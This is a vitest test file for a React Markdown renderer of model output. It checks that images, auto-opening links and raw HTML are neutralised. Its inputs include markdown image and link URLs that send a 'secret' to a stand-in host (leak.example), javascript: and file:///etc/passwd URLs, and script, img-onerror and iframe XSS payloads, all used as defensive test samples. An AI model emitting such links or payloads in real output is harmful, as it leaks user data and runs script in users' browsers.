import { renderToStaticMarkup } from "react-dom/server";
import { verifies } from "@freehold/testkit";
import { describe, expect, it } from "vitest";
import { isOpenable } from "../lib/is-openable.ts";
import { Markdown } from "./markdown.tsx";

const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} done />);

describe("what a model wrote", () => {
  it("loads no picture", () => {
    verifies("web.output.no-picture");
    const page = html(
      "![chart](https://leak.example/p.png?q=secret) ![x](data:image/png;base64,AAAA) ![r](/relative.png)",
    );
    expect(page).not.toContain("<img");
    expect(page).toContain("Image blocked: chart");
  });

  it("opens nothing by itself: a link is a button without an address", () => {
    verifies("web.output.links-ask");
    const page = html("[one](https://leak.example/?q=secret) and https://auto.example and [js](javascript:alert(1))");
    expect(page).not.toContain("href=");
    expect(page).toContain("<button");
    expect(["https://a.example", "HTTP://a.example", "mailto:a@b.example"].every(isOpenable)).toBe(true);
    expect(
      ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "/relative", "blob:x"].some(isOpenable),
    ).toBe(false);
  });

  it("shows HTML as the text that it is", () => {
    verifies("web.output.no-html");
    const page = html(
      "<script>alert(1)</script>\n\nA <img src=x onerror=alert(1)> and <iframe src=//leak.example></iframe> end.",
    );
    expect(page).not.toMatch(/<(script|img|iframe)/);
  });
});
